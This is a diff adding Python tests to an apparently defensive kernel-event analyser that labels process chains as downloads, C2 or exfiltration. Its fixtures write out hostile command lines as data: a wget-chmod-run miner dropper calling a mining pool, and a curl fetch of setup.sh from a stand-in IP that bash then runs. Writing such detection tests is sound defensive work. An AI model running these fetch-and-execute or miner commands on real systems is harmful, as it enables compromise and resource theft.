@@ -191,3 +191,31 @@ def test_a_manifest_sent_to_the_api_server_is_no_exfiltration():
     assert X.exfil_senders(list(info), info, _edges(rows[:2]), G.WRITE, G.CONNECT, API_SERVER) == {"k"}
     out = _edges([rows[0], ("proc:k", "ext:45.9.1.1:8443", G.CONNECT, 35 * MS, "", None), rows[2]])
     assert X.exfil_senders(list(info), info, out, G.WRITE, G.CONNECT, API_SERVER) == {"k"}
+
+
+def test_a_line_whose_source_writes_no_exits_is_no_pipeline():
+    """Inspektor Gadget writes no exit times: ``wget -O /tmp/lc … ; chmod +x /tmp/lc ; /tmp/lc -o pool``
+    on a node whose processes' exits the capture has none of (``node_exits`` false) — which ran
+    together is unknown, so the miner's connection is no pipeline's end (no exfiltration); where
+    exits are recorded, one not seen yet is a member still running."""
+    info = _pipe(("wget", "-qO /tmp/lc http://x/lc", 21), ("chmod", "+x /tmp/lc", 22), ("lc", "-o pool:3333", 23))
+    assert X.pipe_sink("lc", 2 * S, list(info), info, 2 * S, {"lc"})  # exits unknown: still running
+    blind = {x: {**r, "node_exits": False} for x, r in info.items()}
+    assert not X.pipe_sink("lc", 2 * S, list(blind), blind, 2 * S, {"lc"})
+
+
+def test_a_fetch_whose_file_an_interpreter_then_runs_is_a_download():
+    """``curl -sL http://x/setup.sh -o /tmp/setup.sh`` then ``bash /tmp/setup.sh``: no hook saw the
+    write (Inspektor Gadget), but the later interpreter ran the path the fetch named — a download,
+    not a C2, though the fetcher's exit is unknown.  A later ``rm`` of the path is no run."""
+    from kernelsec_nb.findings._incident import _role
+    from kernelsec_nb.findings.engine import DEFAULT
+
+    info = _info([("sh", None, "/bin/sh", "-c job", 0),
+                  ("get", "sh", "/usr/bin/curl", "-sL http://6.6.6.6/setup.sh -o /tmp/setup.sh", 1 * MS),
+                  ("run", "sh", "/bin/bash", "/tmp/setup.sh", 900 * MS)])
+    edge = G.empty_edges()
+    assert _role("get", 2 * MS, list(info), set(info), info, edge, DEFAULT) == "download"
+    info["run"] = {**info["run"], "binary": "/bin/rm", "args": "-f /tmp/setup.sh"}
+    assert _role("get", 2 * MS, list(info), set(info), info, edge, DEFAULT) == "c2"
+    assert X.interpreted({"-o", "/tmp/setup.sh"}, [{"binary": "/usr/bin/python3", "args": "-u /tmp/setup.sh"}])
